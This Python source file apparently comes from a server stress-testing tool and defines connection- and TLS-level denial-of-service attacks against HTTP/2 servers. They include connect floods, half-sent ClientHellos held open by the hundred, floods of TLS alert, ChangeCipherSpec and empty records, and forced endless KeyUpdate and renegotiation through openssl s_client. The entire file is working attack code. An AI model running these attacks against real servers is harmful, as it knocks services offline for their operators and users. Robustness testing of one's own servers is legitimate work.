"""Attacks before the first request, or below HTTP/2: connects, handshakes, and TLS's own messages."""

import socket
import ssl
import subprocess
import time

import connection as connections
import frames
from table import attack_on_sockets

_HALF_OPEN = 200  # connections at the same time
_WARNING = b"\x15\x03\x03\x00\x02\x01\x5a"  # TLS alert: warning, user_canceled
_CHANGE_CIPHER_SPEC = b"\x14\x03\x03\x00\x01\x01"
_EMPTY_HANDSHAKE = b"\x16\x03\x03\x00\x00"


@attack_on_sockets("connects", "connects that are closed at once")
def _(target):
    while True:
        target.dial().close()


@attack_on_sockets("handshakes", "whole handshakes, and then nothing")
def _(target):
    while True:
        with connections.Connection(target) as connection:
            connection.greet()


def _hello(target):
    """A ClientHello in its record; without TLS, the preface with SETTINGS that lack their last byte."""
    if not target.is_tls:
        return frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, 65535))[:-1]
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    made = target.context.wrap_bio(incoming, outgoing, server_hostname=target.host)
    try:
        made.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attack_on_sockets("half-hellos", "200 connections at a time that each lack the last byte of their greeting")
def _(target):
    hello, held = _hello(target)[:-1], []
    try:
        while True:
            held.append(target.dial())
            held[-1].sendall(hello)
            if len(held) > _HALF_OPEN:
                held.pop(0).close()
                time.sleep(0.01)
    finally:
        for plain in held:
            plain.close()


@attack_on_sockets("whole-hellos", "200 connections at a time that greet, read no answer, and say no more")
def _(target):
    hello, held = _hello(target), []
    try:
        while True:
            held.append(target.dial())
            held[-1].sendall(hello)
            if len(held) > _HALF_OPEN:
                held.pop(0).close()
                time.sleep(0.01)
    finally:
        for plain in held:
            plain.close()


def _flood_behind_hello(target, record):
    with target.dial() as plain:
        plain.settimeout(1)
        try:
            plain.sendall(_hello(target))
            while target.time_left() > 0:
                plain.sendall(record * 1000)
        except OSError as error:
            raise connections.Cut from error
    raise connections.Over


@attack_on_sockets("tls-alerts", "a ClientHello, and then warnings", needs_tls=True)
def _(target):
    _flood_behind_hello(target, _WARNING)


@attack_on_sockets("tls-change-cipher-spec", "a ClientHello, and then ChangeCipherSpec records", needs_tls=True)
def _(target):
    _flood_behind_hello(target, _CHANGE_CIPHER_SPEC)


@attack_on_sockets("tls-empty-records", "a ClientHello, and then records without a byte", needs_tls=True)
def _(target):
    _flood_behind_hello(target, _EMPTY_HANDSHAKE)


def _ask_openssl(target, words, letter):
    """Sends openssl s_client one letter per packet: it takes a letter at the beginning of its input for a command."""
    ours, its = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    argv = ["openssl", "s_client", "-connect", "%s:%d" % (target.host, target.port), "-alpn", "h2", "-quiet",
            "-no_ign_eof", "-bind", "%s:0" % target.source, "-cert", "cert.pem", "-key", "cert.pem", "-CAfile", "ca.pem",
            *words]
    program = subprocess.Popen(argv, cwd=target.tls_folder, stdin=its, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    its.close()
    try:
        ours.settimeout(0.2)
        while program.poll() is None and target.time_left() > 0:
            try:
                ours.send(letter)
            except socket.timeout:
                continue
    except OSError as error:
        raise connections.Cut from error
    finally:
        program.kill()
        program.wait()
        ours.close()
    if target.time_left() <= 0:
        raise connections.Over
    raise connections.Cut


@attack_on_sockets("tls-key-updates", "new keys again and again (KeyUpdate, with the server's asked for)", needs_tls=True)
def _(target):
    _ask_openssl(target, ["-tls1_3"], b"K\n")


@attack_on_sockets("tls-renegotiation", "handshakes again and again on one connection of TLS 1.2", needs_tls=True)
def _(target):
    _ask_openssl(target, ["-tls1_2"], b"R\n")
